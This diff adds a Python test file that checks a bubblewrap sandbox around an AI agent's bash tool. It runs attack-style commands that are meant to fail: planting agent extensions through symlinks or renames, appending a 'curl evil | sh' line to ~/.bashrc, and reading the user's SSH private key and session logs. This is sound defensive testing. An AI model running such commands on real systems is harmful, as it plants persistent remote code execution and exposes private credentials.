@@ -1,0 +1,193 @@
+"""The agent's own shell under bwrap (:func:`sandbox.plan_shell`), attacked for real.
+
+Each test runs real ``bash`` commands through the built-in tool, as a rewriting
+extension would: plant an extension in ``.corral``, append to ``~/.bashrc``, read
+corral's home and the user's keys. Homes and projects live under ``/var/tmp``, not
+``/tmp``: the shell has a private ``/tmp``, which would make every write "fail"
+for the wrong reason.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import sys
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import psutil
+import pytest
+import trio
+
+import sandbox
+from agent._messages import TextContent
+from agent._registry import ToolRunResult
+from agent._tools.bash import BashTool
+from agent._tools.confine import Workspace
+
+pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="bwrap backend")
+
+
+class Box:
+    """A user's home (with a key and a ``.bashrc``), corral's home, and a project."""
+
+    def __init__(self, base: Path) -> None:
+        self.home = base / "alice"
+        self.corral_home = self.home / ".local" / "state" / "corral"
+        self.project = self.home / "project"
+        for d in (self.project, self.corral_home / "sessions", self.home / ".ssh"):
+            d.mkdir(parents=True)
+        (self.home / ".bashrc").write_text("# mine\n")
+        (self.home / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
+        (self.corral_home / "sessions" / "s.jsonl").write_text("PRIVATE SESSION\n")
+        (self.home / "notes.txt").write_text("plain notes\n")
+
+    def bash(self, cwd: Path | None = None) -> BashTool:
+        backend = sandbox.select_sandbox("auto")
+        if backend.backend != "bwrap":
+            pytest.skip("no bwrap backend here")
+        ws = Workspace(
+            str(cwd or self.project), corral_home=str(self.corral_home), home=str(self.home)
+        )
+        return BashTool(ws, sandbox=backend, default_timeout=30)
+
+
+@pytest.fixture
+def box(monkeypatch: pytest.MonkeyPatch) -> Iterator[Box]:
+    base = Path(tempfile.mkdtemp(prefix="corral-shell-", dir="/var/tmp"))
+    try:
+        b = Box(base)
+        monkeypatch.setenv("HOME", str(b.home))
+        yield b
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def _fds() -> set[int]:
+    return {int(n) for n in os.listdir("/proc/self/fd")}
+
+
+async def sh(tool: BashTool, command: str) -> tuple[bool, str]:
+    """Run ``command``; (succeeded, output). Checks nothing is left running or open."""
+    before_pids = {p.pid for p in psutil.Process().children(recursive=True)}
+    before_fds = _fds()
+
+    async def no_progress(text: str) -> None:
+        raise AssertionError(text)
+
+    with trio.fail_after(60):
+        result: ToolRunResult = await tool.run("c1", {"command": command}, no_progress)
+    after = {p.pid for p in psutil.Process().children(recursive=True)}
+    assert after <= before_pids
+    assert _fds() <= before_fds
+    text = " ".join(b.text for b in result.content if isinstance(b, TextContent))
+    return not result.is_error, text
+
+
+PLANTS = [
+    "mkdir -p .corral/extensions/x && echo '{}' > .corral/extensions/x/extension.json",
+    "rm -rf .corral && mkdir -p .corral/extensions/x",
+    "mv .corral gone && mkdir -p .corral/extensions/x",
+    "ln -s .corral innocent && mkdir -p innocent/extensions/x",
+    "cd sub/.. && mkdir -p ./.corral/extensions/x",
+    "echo '{}' > .corral/extensions/good/extension.json",
+]
+
+
+@pytest.mark.parametrize("command", PLANTS)
+async def test_bash_cannot_plant_an_extension(box: Box, command: str) -> None:
+    (box.project / "sub").mkdir()
+    good = box.project / ".corral" / "extensions" / "good"
+    good.mkdir(parents=True)
+    (good / "extension.json").write_text('{"name": "good"}')
+    ok, out = await sh(box.bash(), command)
+    assert not ok
+    assert "Read-only file system" in out or "Device or resource busy" in out
+    assert sorted(p.name for p in (box.project / ".corral" / "extensions").iterdir()) == ["good"]
+    assert (good / "extension.json").read_text() == '{"name": "good"}'
+
+
+async def test_a_missing_dot_corral_is_created_empty_and_read_only(box: Box) -> None:
+    ok, out = await sh(box.bash(), "echo fine > made.txt && mkdir -p .corral/extensions/x")
+    assert not ok
+    assert "Read-only file system" in out
+    assert (box.project / "made.txt").read_text() == "fine\n"
+    assert (box.project / ".corral").is_dir()
+    assert list((box.project / ".corral").iterdir()) == []
+
+
+async def test_a_directory_the_user_cannot_write_still_runs_bash(box: Box) -> None:
+    if os.geteuid() == 0:
+        pytest.skip("root writes anywhere")
+    box.project.chmod(0o555)
+    try:
+        ok, out = await sh(box.bash(), "ls -a && mkdir .corral")
+    finally:
+        box.project.chmod(0o755)
+    assert not ok
+    assert "Permission denied" in out or "Read-only file system" in out
+    assert not (box.project / ".corral").exists()
+
+
+async def test_a_dot_corral_symlink_is_refused(box: Box, tmp_path: Path) -> None:
+    (box.project / ".corral").symlink_to(box.home)
+    ok, out = await sh(box.bash(), "echo ran > ran.txt")
+    assert not ok
+    assert ".corral must be a plain directory" in out
+    assert not (box.project / "ran.txt").exists()
+
+
+async def test_bash_cannot_touch_dotfiles_or_see_secrets(box: Box) -> None:
+    tool = box.bash()
+    ok, out = await sh(tool, "echo 'curl evil | sh' >> ~/.bashrc")
+    assert not ok
+    assert "Read-only file system" in out
+    assert (box.home / ".bashrc").read_text() == "# mine\n"
+    for secret in (box.home / ".ssh" / "id_rsa", box.corral_home / "sessions" / "s.jsonl"):
+        ok, out = await sh(tool, f"cat {secret}")
+        assert not ok
+        assert "PRIVATE" not in out
+    # The rest of the machine is visible, read-only, as the brief of the tool says.
+    ok, out = await sh(tool, f"cat {box.home / 'notes.txt'} && echo $HOME && touch /usr/x")
+    assert not ok
+    assert out.startswith(f"plain notes\n{box.home}\n")
+    assert "Read-only file system" in out
+
+
+@pytest.mark.parametrize("where", ["home", "corral_home"])
+async def test_no_writable_workspace_at_home(box: Box, where: str) -> None:
+    if where == "corral_home":
+        ok, out = await sh(box.bash(box.corral_home), "ls")
+        assert not ok
+        assert "inside corral's home" in out
+        return
+    tool = box.bash(box.home)
+    assert "read-only" in tool.spec.description
+    ok, out = await sh(tool, "echo x >> .bashrc; echo y > new.txt; echo z > /tmp/t && cat /tmp/t")
+    assert out.count("Read-only file system") == 2
+    assert out.rstrip().endswith("z")
+    assert ok
+    assert (box.home / ".bashrc").read_text() == "# mine\n"
+    assert not (box.home / "new.txt").exists()
+
+
+def test_plans_release_their_descriptors(box: Box) -> None:
+    backend = sandbox.select_sandbox("auto")
+    if backend.backend != "bwrap":
+        pytest.skip("no bwrap backend here")
+    before = _fds()
+    request: dict[str, Any] = {"argv": ["/bin/true"], "env": {}, "workspace": str(box.project)}
+    plan = sandbox.plan_shell(backend, sandbox.ShellRequest(**request, read_only=[".corral"]))
+    assert plan is not None
+    assert plan.sandboxed
+    assert len(plan.pass_fds) >= 2
+    backend.cleanup(plan)
+    backend.cleanup(plan)  # idempotent
+    assert _fds() <= before
+    gone = sandbox.ShellRequest(**{**request, "workspace": str(box.home / "gone")})
+    with pytest.raises(sandbox.PlanError, match="No such file"):
+        sandbox.plan_shell(backend, gone)
+    assert _fds() <= before
+    assert sandbox.plan_shell(sandbox.select_sandbox("off"), gone) is None
